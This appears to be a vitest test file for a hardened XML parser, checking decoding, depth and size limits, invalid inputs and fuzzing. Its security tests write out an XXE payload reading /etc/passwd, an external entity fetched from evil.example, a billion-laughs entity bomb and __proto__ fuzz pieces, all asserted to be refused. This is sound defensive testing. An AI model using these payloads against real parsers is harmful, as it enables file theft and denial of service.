import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isFormatError } from '../faults.ts';
import { childText, elementsOf, parseXml, xmlText } from './parse-xml.ts';

const codeOf = (text: string, options = {}) => {
  try {
    parseXml(text, options);
    return 'parsed';
  } catch (error) {
    return isFormatError(error) ? error.code : error;
  }
};

describe('XML', () => {
  it('becomes a tree with plain names, decoded text and CDATA as it stands', () => {
    const root = parseXml(
      '\uFEFF<?xml version="1.0"?>\n<!-- <x> --><p:a xml:lang="zh" p:id="x" id="1&amp;2"><b>&lt;&#x4e00;&#20108;&gt;</b><c><![CDATA[<&amp;>]]></c><d/></p:a>',
    );
    expect(root.name).toBe('a');
    expect(root.attributes).toEqual({ lang: 'zh', id: '1&2' });
    expect(childText(root, 'b')).toBe('<一二>');
    expect(childText(root, 'c')).toBe('<&amp;>');
    expect(childText(root, 'd')).toBeUndefined();
    expect(elementsOf(root).map(({ name }) => name)).toEqual(['b', 'c', 'd']);
  });

  it('keeps unknown references and bare ampersands as they are written', () => {
    expect(xmlText(parseXml('<a>Tom & Jerry &foo; &#0; &#xD800; &#99999999; &</a>'))).toBe(
      'Tom & Jerry &foo; &#0; &#xD800; &#99999999; &',
    );
  });

  it('never resolves an outside entity', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';
    expect(codeOf(xxe)).toBe('XML_FORBIDDEN');
    expect(codeOf(xxe, { doctype: 'reference' })).toBe('XML_FORBIDDEN');
    const parameter = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><a/>';
    expect(codeOf(parameter, { doctype: 'reference' })).toBe('XML_FORBIDDEN');
  });

  it('never laughs a billion times', () => {
    const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join(
      '',
    );
    const bomb = `<!DOCTYPE a [<!ENTITY l0 "lol">${laughs}]><a>&l9;</a>`;
    expect(codeOf(bomb)).toBe('XML_FORBIDDEN');
    expect(codeOf(bomb, { doctype: 'reference' })).toBe('XML_FORBIDDEN');
    expect(codeOf('<a><!ENTITY x "y"></a>', { doctype: 'reference' })).toBe('XML_FORBIDDEN');
  });

  it('passes over the name of a DTD elsewhere only where that is asked for', () => {
    const old =
      '<!DOCTYPE ncx PUBLIC "-//NISO//DTD ncx 2005-1//EN" "http://www.daisy.org/z3986/2005/ncx-2005-1.dtd"><ncx/>';
    expect(codeOf(old)).toBe('XML_FORBIDDEN');
    expect(parseXml(old, { doctype: 'reference' }).name).toBe('ncx');
  });

  it('takes 64 levels and refuses 65', () => {
    const nested = (depth: number) => '<a>'.repeat(depth) + '</a>'.repeat(depth);
    expect(codeOf(nested(64))).toBe('parsed');
    expect(codeOf(nested(65))).toBe('XML_TOO_DEEP');
    expect(codeOf('<a>'.repeat(1_000_000))).toBe('XML_TOO_DEEP');
  });

  it('refuses more than 16 Mi characters', () => {
    expect(codeOf(`<a>${'x'.repeat(16 * 1024 * 1024)}</a>`)).toBe('XML_TOO_LARGE');
  });

  it.each([
    '',
    'words',
    'words <a/>',
    '<a>',
    '<a></b>',
    '<a><b></a></b>',
    '<a',
    '<a b="',
    '<!-- a',
    '<a><![CDATA[x</a>',
    '</a>',
    '< a/>',
    '<a <b/>',
  ])('%j is invalid', (text) => {
    expect(codeOf(text)).toBe('XML_INVALID');
  });

  it('of any damage gives a tree or a fault', () => {
    const piece = fc.constantFrom(
      '<a>',
      '</a>',
      '<a/>',
      '<',
      '>',
      '"',
      '&#1;',
      '<!',
      '<![CDATA[',
      ']]>',
      '<?',
      '?>',
      '-->',
      '__proto__',
      '<__proto__ constructor="1">',
      'x',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        expect(['parsed', 'XML_INVALID', 'XML_FORBIDDEN', 'XML_TOO_DEEP']).toContain(codeOf(pieces.join('')));
      }),
      { numRuns: 2000 },
    );
  });
});
